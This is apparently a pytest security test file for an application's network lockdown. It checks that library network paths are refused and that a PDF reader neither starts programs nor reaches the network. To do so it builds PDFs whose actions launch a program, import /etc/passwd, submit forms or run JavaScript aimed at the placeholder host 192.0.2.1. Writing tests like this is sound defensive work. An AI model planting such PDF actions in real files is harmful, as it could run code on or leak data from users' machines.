"""Libraries that we load know many ways to reach a network: each is tried, and found shut."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.deadlines import PATIENCE
from tests.security.pdf_bytes import build, stream, two_pages

MOST_SECONDS = 5.0
SHUT = {"guard", "system", "switch", "backend"}
GROUPS = {
    "python": 26, "native": 3, "chroma": 5, "hugging face": 8,
    "hugging face without its switch": 3, "torch": 5, "llama": 1, "qt": 4,
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize("group", GROUPS)
def test_every_known_way_out_is_shut_at_once(group: str, tmp_path: Path) -> None:
    """Refused by name, by our guard, the system or a switch: a dead network would not do."""
    done = subprocess.run(
        [sys.executable, "-m", "tests.security.phoning_home", group],
        capture_output=True, text=True, timeout=PATIENCE, check=False,
        env=os.environ | {"HOME": str(tmp_path), "TMPDIR": str(tmp_path)},
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    found = json.loads(done.stdout.splitlines()[-1])
    told = found["told"]
    assert len(told) == GROUPS[group]
    if not found["by_system"]:  # native code is the system's to refuse
        told = {} if group == "native" else {n: t for n, t in told.items() if "(native)" not in n}
    assert {name: why for name, (why, _) in told.items() if why not in SHUT} == {}
    assert {name: seconds for name, (_, seconds) in told.items() if seconds > MOST_SECONDS} == {}
    assert (found["listening"], found["while_loading"]) == (0, 0)


ACTIONS = {
    "uri": "/S /URI /URI (http://192.0.2.1/x)",
    "remote file": "/S /GoToR /F << /Type /Filespec /FS /URL /F (http://192.0.2.1/x.pdf) >> /D [0]",
    "share": r"/S /GoToR /F (\\\\192.0.2.1\\share\\x.pdf) /D [0]",
    "launch": "/S /Launch /F (/bin/true)",
    "form": "/S /SubmitForm /F << /FS /URL /F (http://192.0.2.1/x) >> /Flags 4",
    "import": "/S /ImportData /F (/etc/passwd)",
    "script": "/S /JavaScript /JS (app.launchURL('http://192.0.2.1/'); this.submitForm('x');)",
    "rendition": "/S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D (http://192.0.2.1/x) >> >>",
}
READING = """
import json, sys
from pathlib import Path
from app.system.lockdown import lock
lockdown = lock(display=False)
seen = []
WATCHED = ("subprocess.", "os.exec", "os.posix_spawn", "os.system", "os.fork", "os.startfile")
sys.addaudithook(lambda event, _: seen.append(event) if event.startswith(WATCHED) else None)
from app.backends.pdf_reader import PdfReader
from app.core.control import Control
reader, texts = PdfReader(), []
reader.warm_up()
for path in sorted(Path(sys.argv[1]).glob("*.pdf")):
    reading = reader.read(path, "", lambda *_: None, Control())
    texts.append(reading.pages[0].text.strip())
    reader.draw(path, 1, 0.2, "")
from tests.security.phoning_home import listening
print(json.dumps([texts, seen, [r.event for r in lockdown.guard.refused], listening()]))
"""


@pytest.mark.slow
def test_a_pdf_that_names_addresses_and_programs_reaches_and_starts_nothing(
    tmp_path: Path,
) -> None:
    for name, action in ACTIONS.items():
        link = f"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 500 800] /A << {action} >> >>]"
        objects = two_pages(
            page=f"{link} /AA << /O << {action} >> >>", catalog=f"/OpenAction << {action} >>"
        )
        (tmp_path / f"{name}.pdf").write_bytes(build(objects))
    image = "/Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 1"
    objects = two_pages(
        b"BT /F1 12 Tf 72 720 Td (The heron fishes at dawn.) Tj ET /I Do",
        resources="/XObject << /I 90 0 R /E 91 0 R >>",
    )
    objects[90] = stream(b"\x00" * 30, f"/Type /XObject {image} /Filter /JBIG2Decode")
    objects[91] = stream(b"", f"/Type /XObject {image} /F (http://192.0.2.1/x) /FFilter /DCTDecode")
    (tmp_path / "picture.pdf").write_bytes(build(objects))
    done = subprocess.run(
        [sys.executable, "-c", READING, str(tmp_path)],
        capture_output=True,
        text=True,
        timeout=PATIENCE,
    )
    assert done.returncode == 0, done.stderr
    texts, started, refused, listening = json.loads(done.stdout.splitlines()[-1])
    assert texts == ["The heron fishes at dawn."] * (len(ACTIONS) + 1)
    assert (started, refused, listening) == ([], [], 0)
